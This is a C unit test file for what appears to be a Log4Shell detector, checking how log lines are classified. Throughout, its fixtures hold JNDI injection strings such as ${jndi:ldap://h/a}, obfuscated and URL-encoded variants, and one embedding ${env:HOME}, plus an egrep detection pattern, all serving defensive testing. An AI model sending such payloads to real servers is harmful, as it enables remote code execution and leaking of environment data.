/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "commands/judge.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

static struct config *config;
static struct scan *scan;
static struct judge *judge;

static int set_up(void **state)
{
    (void)state;
    config = config_new();
    scan = scan_new(NULL);
    assert_true(config && scan);
    judge = judge_new(config, scan);
    assert_non_null(judge);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    judge_free(judge);
    scan_free(scan);
    config_free(config);
    return 0;
}

static void on_judged(void *arg, const struct judged *j)
{
    buf_addf(arg, "%s %.*s|", judged_kind_name(j->kind), (int)j->name.len,
             j->name.len ? (const char *)j->name.p : "");
    assert_int_equal(j->kind == JUDGED_LOOKUP, j->verdict.confidence > 50);
    if (j->kind != JUDGED_LOOKUP)
        assert_false(bytes_eq(attrs_get(&j->verdict.attrs, ATTR_JNDI_EFFECTIVE), BYTES_LIT("yes")));
}

static void assert_judged_after(const char *line, bool more, const char *expected)
{
    struct bytes text = bytes_str(line);
    uint8_t *exact = memcpy(malloc(text.len + !text.len), line, text.len);
    struct buf told = buf_within(4096);
    bool found = judge_line(judge, bytes_of(exact, text.len), more, false, on_judged, &told);

    assert_int_equal(found, told.len > 0 || more);
    buf_add_byte(&told, '\0');
    assert_string_equal((const char *)told.p, expected);
    buf_drop(&told);
    free(exact);
}

static void assert_judged(const char *line, const char *expected)
{
    assert_judged_after(line, false, expected);
}

static void lookups_are_told(void **state)
{
    (void)state;
    assert_judged("", "");
    assert_judged("nothing", "");
    assert_judged("a ${lower:X} b", "");
    assert_judged("\"GET /${jndi:ldap://h/a} HTTP/1.1\"", "lookup ldap://h/a|");
    assert_judged("\"GET /%24%7Bjndi:ldap://h/a%7D HTTP/1.1\"\r", "lookup ldap://h/a|");
    assert_judged("${jndi:ldap://h/a} ${jndi:rmi://h/b}", "lookup ldap://h/a|lookup rmi://h/b|");
    assert_judged("{\"a\":\"${jndi:ldap://h/a}\",\"b\":\"${jndi:ldap://h/a}\"}", "lookup ldap://h/a|");
}

static void unclosed_lookups_are_told(void **state)
{
    (void)state;
    assert_judged("\"GET /${jndi:ldap://h/a HTTP/1.1\" 200", "unclosed ldap://h/a|");
    assert_judged("\"GET /${jndi:ldap://h/a HTTP/1.1\" \"${jndi:rmi://i/b\"",
                  "unclosed rmi://i/b|unclosed ldap://h/a|");
    assert_judged("\"GET /${${lower:j}ndi:${lower:l}dap://h/a HTTP/1.1\"\r", "unclosed ldap://h/a|");
    assert_judged("\"GET /%24%7Bjndi:ldap://h/a HTTP/1.1\"", "unclosed ldap://h/a|");
    assert_judged("${jndi:ldap://h/${env:HOME", "unclosed ldap://h/${env:HOME}|");
    assert_judged("${jndi:", "unclosed |");
    assert_judged("${x ${jndi:ldap://h/a}", "unclosed ldap://h/a|");
}

/* The words alone, where Log4j does not come to them: a lookup that throws goes before. */
static void words_are_told(void **state)
{
    (void)state;
    assert_judged("${java:nothing}${jndi:ldap://h/a}", "text ldap://h/a|");
    assert_judged("${java:nothing}${JNDI:LDAP://h/a b}", "text LDAP://h/a|");
}

static void a_line_tells_a_name_once(void **state)
{
    (void)state;
    assert_judged("${jndi:ldap://h/a}", "lookup ldap://h/a|");
    assert_judged_after("${jndi:ldap://h/a} ${jndi:ldap://h/b}", true, "lookup ldap://h/b|");
    assert_judged_after("${jndi:ldap://h/b}", true, "");
    assert_judged("${jndi:ldap://h/b}", "lookup ldap://h/b|");
}

/* Only what will not come again is told as unclosed. */
static void cut_lines_wait(void **state)
{
    struct buf told = buf_within(4096), line = buf_within(100000);

    (void)state;
    buf_add_str(&line, "${jndi:ldap://h/early ");
    while (line.len < 40000)
        buf_add_byte(&line, 'x');
    buf_add_str(&line, " ${jndi:ldap://h/la");
    assert_true(judge_line(judge, buf_bytes(&line), false, true, on_judged, &told));
    assert_true(bytes_eq(buf_bytes(&told), BYTES_LIT("unclosed ldap://h/early|")));
    assert_false(judge_line(judge, bytes_from(buf_bytes(&line), 100), true, true, on_judged, &told));
    assert_true(judge_line(judge, bytes_from(buf_bytes(&line), 100), true, false, on_judged, &told));
    assert_true(bytes_ends(buf_bytes(&told), BYTES_LIT("|unclosed ldap://h/la|")));
    buf_drop(&told);
    buf_drop(&line);
}

/* What egrep -i '\$\{jndi:(ldap[s]?|rmi|dns)://' finds is found, whatever stands around it. */
static void whatever_egrep_finds_is_told(void **state)
{
    static const char *const words[] = {"${jndi:ldap://", "${JNDI:LDAPS://", "${jndi:rmi://",
                                        "${jNdi:dns://"};
    static const char *const around[] = {"",          "$",     "${", "}",     "{",        "\\",  "%24%7B",
                                         "${java:x}", "${::-", "\"", "a ",    "${lower:", "$${", "${a:-",
                                         "\xc3\xa9",  "\xff",  "<",  "&#36;", "${jndi:"};
    const size_t n = sizeof around / sizeof *around;

    (void)state;
    for (size_t w = 0; w < 4; w++)
        for (size_t i = 0; i < n * n * n; i++) {
            struct buf told = buf_within(4096), line = buf_within(4096);

            buf_add_str(&line, around[i % n]);
            buf_add_str(&line, around[i / n % n]);
            buf_add_str(&line, words[w]);
            buf_add_str(&line, around[i / n / n]);
            assert_true(scan_block(scan, buf_bytes(&line)) & SCAN_HIT);
            if (!judge_line(judge, buf_bytes(&line), false, false, on_judged, &told))
                fail_msg("%.*s", (int)line.len, (const char *)line.p);
            buf_drop(&told);
            buf_drop(&line);
        }
}

/* Too expensive to work out is an answer, too: nobody nests so deep for fun. */
static void budgets_are_told(void **state)
{
    struct buf line = buf_within(4096);

    (void)state;
    for (unsigned i = 0; i < 2 * config->lookup_max_depth; i++)
        buf_add_str(&line, "${a:-");
    buf_add_str(&line, "jndi");
    for (unsigned i = 0; i < 2 * config->lookup_max_depth; i++)
        buf_add_str(&line, "}");
    buf_add_byte(&line, '\0');
    assert_judged((const char *)line.p, "budget |");
    buf_drop(&line);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lookups_are_told),
        cmocka_unit_test(unclosed_lookups_are_told),
        cmocka_unit_test(words_are_told),
        cmocka_unit_test(a_line_tells_a_name_once),
        cmocka_unit_test(whatever_egrep_finds_is_told),
        cmocka_unit_test(budgets_are_told),
        cmocka_unit_test(cut_lines_wait),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
